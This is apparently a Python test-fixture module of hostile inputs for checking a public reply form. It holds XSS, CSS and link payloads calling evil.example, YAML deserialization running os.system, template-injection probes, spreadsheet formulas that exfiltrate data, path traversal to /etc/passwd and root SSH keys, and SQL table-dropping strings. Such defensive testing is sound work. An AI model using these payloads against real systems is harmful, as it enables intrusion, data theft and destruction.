"""Texts that try to be more than text: what a public form receives sooner or later. Each is valid as a reply's text."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "```\n<script>alert(1)</script>\n```\n\n</code></pre><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<template><script>alert(1)</script></template><portal src=x></portal>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href='#' onclick=alert(1) onmouseover='alert(2)'>x</a>",
    "<p onpointerenter=alert(1) style='position:fixed;inset:0'>x</p>",
    '![x](x "x\\" onerror=\\"alert(1)")',
    "<input autofocus onfocus=alert(1)><form action=https://evil.example><button>go</button></form>",
    "<video><source onerror=alert(1)></video><audio src onloadstart=alert(1)>",
)
LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/) [y](\\\\evil.example\\x) [z](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\nsee [x]",
    "![x](https://evil.example/pixel.png)",
    # Cyrillic letters that look like Latin ones.
    "[the site](https://\u0435x\u0430mple.example/)",
    "[x](evidence/../../../etc/passwd) [y](evidence/no-such-entry)",
)
STYLES = (
    "<style>body{display:none}</style>",
    "<p style=\"background:url('https://evil.example/x')\">x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style='width:expression(alert(1))'>x</div>",
    "x {: onclick=alert(1) style=color:red }",
)
PICTURES = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
)
DIRECTIONS = (
    "the key \u202egnp.exe is \u2066left\u2069",
    "\u200fright\u200e \u061cmark \u2067turned\u2069",
    "zero\u200bwidth\ufeffjoined\u2060words \U000e0041\U000e0042",
)
TEMPLATES = (
    "{{ 7*7 }} {% raw %}{% endraw %}{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %} {% import 'os' as os %}",
    "${7*7} #{7*7} <%= 7*7 %> @(7*7) [[7*7]] {7*7} *{7*7}",
    "$title $${title} ${by} %(title)s %s {0.__class__} \\N{DIGIT ONE}",
    '--8<-- "/etc/passwd"\n\n!INCLUDE /etc/passwd',
    ":::python\n[TOC]\n\n[[page]] {: #id .class } ^^x^^ ~~y~~ ==z== :smile:",
)
YAML = (
    "---\nkind: evidence\nconsent: true\n---\nx",
    "\n---\n---\n...\n",
    "!!python/object/apply:os.system ['touch /tmp/x']",
    "&a [*a, *a]\n<<: *b\n? complex\n: value\n",
    "no: yes\non: 010\ntime: 1:30\nnull: ~\n'quote\": \\x00 # not a comment",
    "title: x\nformerly: y\nwithdrawn: because",
    "- {a: b}\n- >-\n  folded\n- |+\n  kept\n\n",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "%0A=1+1",
)  # fmt: skip
PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\con",
    "/etc/passwd",
    "CON",
    "index",
    "none of these",
    "others",
    "a/b/c.md",
    ".git/config",
    "~root/.ssh/authorized_keys",
    "file.md%2f..%2f..",
)
QUERIES = (
    "'; DROP TABLE received; --",
    '" OR 1=1 --',
    "Robert'); DELETE FROM decision;--",
)
TERMINALS = (
    "[red]bold[/] [link=https://evil.example]x[/link]",
    "\u2028line\u2029paragraph",
)
LARGE = (
    "> " * 300 + "deep",
    "[" * 2_000 + "x" + "]" * 2_000,
    "*" * 5_000 + "x",
    "a" * 20_000,
    "\u0436" * 20_000,
    "\U0001f9ed" * 5_000,
    "<b>" * 2_000,
    "| a " * 2_000 + "\n" + "|---" * 2_000,
    "e" + "\u0301" * 500 + " stacked",
)
TEXTS = (
    *SCRIPTS,
    *HANDLERS,
    *LINKS,
    *STYLES,
    *PICTURES,
    *DIRECTIONS,
    *TEMPLATES,
    *YAML,
    *FORMULAS,
    *PATHS,
    *QUERIES,
    *TERMINALS,
    *LARGE,
)
# Of one line, short, and without signs that turn the direction of reading: what the form takes as a name.
NAMES = tuple(
    text
    for text in (
        *SCRIPTS,
        *HANDLERS,
        *LINKS,
        *STYLES,
        *PICTURES,
        *TEMPLATES,
        *YAML,
        *FORMULAS,
        *PATHS,
        *QUERIES,
        *TERMINALS,
    )
    if len(text) <= 80 and not any(sign in text for sign in "\n\r\t\u2028\u2029")
)
